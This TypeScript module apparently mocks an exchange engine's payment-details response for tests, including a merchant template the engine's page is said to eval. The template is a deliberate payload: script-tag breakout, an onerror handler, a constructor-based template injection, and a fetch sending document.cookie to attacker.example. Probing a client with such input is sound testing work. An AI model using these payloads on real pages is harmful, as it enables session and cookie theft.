/**
 * `route.from.paymentDetails` of an order: where and how to pay, by the route's way.
 *
 * The keys are those of live answers of the engine. `merchant.template` is a text in the engine's own
 * format (`/Function(…)/`), which its official page hands to `eval`: this one says what it does.
 *
 * @module
 */
import { walletAddress } from '../../addresses.ts'
import type { Order } from './order.ts'
import type { PayBy, Route } from './routes.ts'

/** The `account` of a new order. The address is real in form and belongs to nobody. */
export function makeAccount({ payBy, from }: Route, orderId: string): string {
  const { network } = from.currency
  const address = network === undefined ? '' : walletAddress(network, orderId)
  return ACCOUNTS[payBy](address)
}

/** What the template sets, should a client evaluate it. */
export const TEMPLATE_MARK = 'lincolnTemplateRan'

const ACCOUNTS: Readonly<Record<PayBy, (address: string) => string>> = {
  address: (address) => address,
  template: (address) => address,
  languages: (address) =>
    [
      `##uk##Надішліть точну суму на ${address} і дочекайтесь 12 підтверджень.##`,
      `##en##Send the exact amount to ${address} and wait for 12 confirmations.##`,
    ].join('\n'),
  requisites: () => '4000 0000 0000 0002 TEST HOLDER',
  page: () => '',
}

/** The object, key by key. */
export function toPaymentDetails({ request: { route }, account }: Order) {
  const { payBy } = route
  const hasMerchant = payBy === 'template' || payBy === 'page'
  return {
    merchantEnabled: hasMerchant,
    ...(payBy === 'template' ? { merchant: { template: TEMPLATE, data: MERCHANT_DATA } } : {}),
    manualPaymentTextEnabled: payBy === 'requisites',
    manualPaymentText: payBy === 'requisites' ? 'Pay first, then say so with the button.' : '',
    account,
    commentTemplate: '',
    linkPS: '',
    showStepLink: true,
    showStepComment: true,
    showIPaidBtn: payBy === 'requisites',
    amlEnabled: false,
    aml: '',
  }
}

const MERCHANT_DATA = { hasError: false, merchantData: { commentTemplate: '', showQR: true } }

const EVIL = `globalThis.${TEMPLATE_MARK} = true`

const TEMPLATE = JSON.stringify({
  type: `(${EVIL}, Object)`,
  render: `/Function((h) { ${EVIL}; document.title = 'taken over'; return h('div') })/`,
  methods: {
    mounted: `/Function(() { ${EVIL}; fetch('https://attacker.example/?' + document.cookie) })/`,
  },
  html: `</script><script>${EVIL}</script><img src="x" onerror="${EVIL}">{{constructor.constructor('${EVIL}')()}}`,
})
